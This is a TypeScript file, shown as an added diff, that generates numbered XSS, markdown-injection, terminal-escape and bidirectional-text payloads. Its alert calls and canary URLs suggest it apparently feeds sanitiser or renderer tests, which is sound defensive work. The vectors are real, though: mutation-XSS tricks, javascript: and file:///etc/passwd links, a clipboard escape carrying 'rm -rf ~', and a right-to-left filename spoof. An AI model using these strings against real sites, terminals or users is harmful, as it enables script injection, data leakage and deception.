@@ -1,0 +1,145 @@
+// Text that would act if a page took it for more than text: markup, addresses, terminal escapes, marks that turn
+// the direction of reading. Each is alone in its own way; each carries its number to whoever it reaches.
+
+export interface Payload {
+  /** Stands in the text beside it: `P017`. */
+  readonly mark: string
+  readonly text: string
+}
+
+/** `act` is JavaScript that calls; `url` an address that answers. */
+type Make = (act: string, url: string) => string
+
+const markup: readonly Make[] = [
+  (act) => `<script>${act}</script>`,
+  (act) => `<ScRiPt>${act}</sCrIpT>`,
+  (act) => `<script\n>${act}</script\t\n bar>`,
+  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
+  (_, url) => `<script src=${url}></script>`,
+  (_, url) => `<script src="data:text/javascript,fetch('${url}')"></script>`,
+  (_, url) => `<script type=module>import "${url}"</script>`,
+  (act) => `<img src=x onerror=${act}>`,
+  (act) => `<img src=x onerror="${act}">`,
+  (act) => `<img src="x" OnErRoR='${act}'/>`,
+  (act) => `<img/src=x/onerror=${act}>`,
+  (act) => `<img src=x:x onerror\n=\n"${act}">`,
+  (act) => `<img src=x onerror=${act}//`,
+  (act) => `<<img src=x onerror=${act}>>`,
+  (_, url) => `<img src=${url}>`,
+  (_, url) => `<img srcset="${url} 2x">`,
+  (_, url) => `<picture><source srcset=${url}><img></picture>`,
+  (_, url) => `<image src=${url}>`,
+  (act) => `<svg onload=${act}>`,
+  (act) => `<svg/onload=${act}>`,
+  (act) => `<svg><script>${act}</script></svg>`,
+  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  (act) => `<svg><a xlink:href="javascript:${act}"><text y=9>x</text></a></svg>`,
+  (_, url) => `<svg><image href="${url}"/></svg>`,
+  (_, url) => `<svg><use href="${url}#a"/></svg>`,
+  (act) => `<math><mtext><table><mglyph><style><!--</style><img src onerror=${act}>`,
+  (act) => `<math href="javascript:${act}">x</math>`,
+  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  (act) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
+  (act) => `<body onload=${act}>`,
+  (act) => `<details open ontoggle=${act}><summary>x</summary></details>`,
+  (act) => `<input autofocus onfocus=${act}>`,
+  (act) => `<select autofocus onfocus=${act}></select>`,
+  (act) => `<textarea autofocus onfocus=${act}></textarea>`,
+  (act) => `<div contenteditable autofocus tabindex=1 onfocus=${act}>x</div>`,
+  (act) => `<marquee onstart=${act}>x</marquee>`,
+  (act) => `<video><source onerror=${act}></video>`,
+  (_, url) => `<video src=${url} autoplay poster=${url}></video>`,
+  (_, url) => `<audio src=${url} autoplay></audio>`,
+  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  (act) => `<iframe src="javascript:${act}"></iframe>`,
+  (_, url) => `<iframe src=${url}></iframe>`,
+  (_, url) => `<object data=${url}></object>`,
+  (_, url) => `<embed src=${url}>`,
+  (_, url) => `<link rel=stylesheet href=${url}>`,
+  (_, url) => `<link rel=prefetch href=${url}>`,
+  (_, url) => `<link rel=dns-prefetch href=${url}><link rel=preconnect href=${url}>`,
+  (_, url) => `<style>@import url(${url});</style>`,
+  (_, url) => `<style>*{background:url(${url})}</style>`,
+  (_, url) => `<div style="background-image:url(${url})">x</div>`,
+  (_, url) => `<table background=${url}><td background=${url}>x</table>`,
+  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (_, url) => `<base href=${url}>`,
+  (act) => `<form action="javascript:${act}"><button autofocus>x</button></form>`,
+  (act) => `<a href="javascript:${act}">x</a>`,
+  (act) => `<a href="&#x6A;avascript:${act}">x</a>`,
+  (_, url) => `<a href="x" ping="${url}">x</a>`,
+  (act) => `<template><script>${act}</script></template>`,
+  (act) => `<!--><img src=x onerror=${act}>-->`,
+  (act) => `<![CDATA[><img src=x onerror=${act}>`,
+  (act) => `<?xml ?><img src=x onerror=${act}>`,
+  (act) => `</title></textarea></style></script><img src=x onerror=${act}>`,
+  (act) => `"><img src=x onerror=${act}>`,
+  (act) => `'-${act}-'`,
+  (act) => `\${${act}}`,
+  (act) => `{{constructor.constructor('${act}')()}}`,
+  (act) => `&lt;img src=x onerror=${act}&gt;`,
+  (act) => `\\u003cimg src=x onerror=${act}\\u003e`,
+  (act) => `\uFF1Cimg src=x onerror=${act}\uFF1E`,
+]
+
+const markdown: readonly Make[] = [
+  (act) => `[a](javascript:${act})`,
+  (act) => `[a](JaVaScRiPt:${act})`,
+  (act) => `[a](java&#115;cript:${act})`,
+  (act) => `[a](&#x6a;avascript&colon;${act})`,
+  (act) => `[a](java\tscript:${act})`,
+  (act) => `[a](<java script:${act}>)`,
+  (act) => `[a](\u0001javascript:${act})`,
+  (act) => `[a](javascript://%0a${act})`,
+  (act) => `[a](vbscript:${act})`,
+  (act) => `[a](data:text/html,<script>${act}</script>)`,
+  (act) => `[a](data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString('base64')})`,
+  (act) => `[a](blob:${act})`,
+  () => '[a](file:///etc/passwd)',
+  (act) => `<javascript:${act}>`,
+  (act) => `[a][r]\n\n[r]: javascript:${act}`,
+  (act) => `[a](x "onmouseover=${act}")`,
+  (act) => `[a](x" onmouseover="${act})`,
+  (act) => `[<img src=x onerror=${act}>](x)`,
+  (_, url) => `![](${url})`,
+  (_, url) => `![alt](${url} "title")`,
+  (act) => `![alt](javascript:${act})`,
+  (act) => `![alt"onerror="${act}](x)`,
+  (_, url) => `![alt][i]\n\n[i]: ${url}`,
+  (_, url) => `[![alt](${url})](${url})`,
+  (_, url) => `![](//${url.replace('http://', '')})`,
+  (act) => `![](data:image/svg+xml,<svg/onload=${act}>)`,
+  (act) => `| a |\n|---|\n| <img src=x onerror=${act}> |`,
+  (act) => `\`\`\`<img src=x onerror=${act}>\n<img src=x onerror=${act}>\n\`\`\``,
+  (act) => `    <img src=x onerror=${act}>`,
+  (act) => `\`<img src=x onerror=${act}>\``,
+  (act) => `# <img src=x onerror=${act}>`,
+  (act) => `- [x] <img src=x onerror=${act}>`,
+  (act) => `[^1]\n\n[^1]: <img src=x onerror=${act}>`,
+]
+
+const escapes: readonly Make[] = [
+  (act) => `\u001b[31mred\u001b[0m ${act}`,
+  (act) => `\u001b]8;;javascript:${act}\u0007link\u001b]8;;\u0007`,
+  (_, url) => `\u001b]8;;${url}\u001b\\link\u001b]8;;\u001b\\`,
+  (act) => `\u001b]0;title ${act}\u0007`,
+  () => '\u001b]52;c;cm0gLXJmIH4=\u0007',
+  () => '\u001bP+q544e\u001b\\ \u001b[2J\u001b[H\u001b[6n',
+  (_, url) => `\u001b]1337;File=inline=1:${url}\u0007`,
+  () => '\u009b31m eight bit',
+  (act) => `\u202E${act}\u202C`,
+  () => 'invoice\u202Egpj.exe',
+  () => '\u2066\u2067\u2068 never closed',
+  () => '\u200F\u061C\u200E marks',
+  () => '\u200B\u200C\u200D\u2060\uFEFF nothing to see',
+  () => 'Z\u0351\u0352\u0353\u0357\u0346'.repeat(20),
+  () => 'backspace\b\b\b\b and \r return',
+]
+
+/** `canary` is an address that nothing may ever ask. */
+export function payloads(canary: string): Payload[] {
+  return [...markup, ...markdown, ...escapes].map((make, index) => {
+    const mark = `P${String(index + 1).padStart(3, '0')}`
+    return { mark, text: make(`alert(top.pwned=${index + 1})`, `${canary}/${mark}`) }
+  })
+}
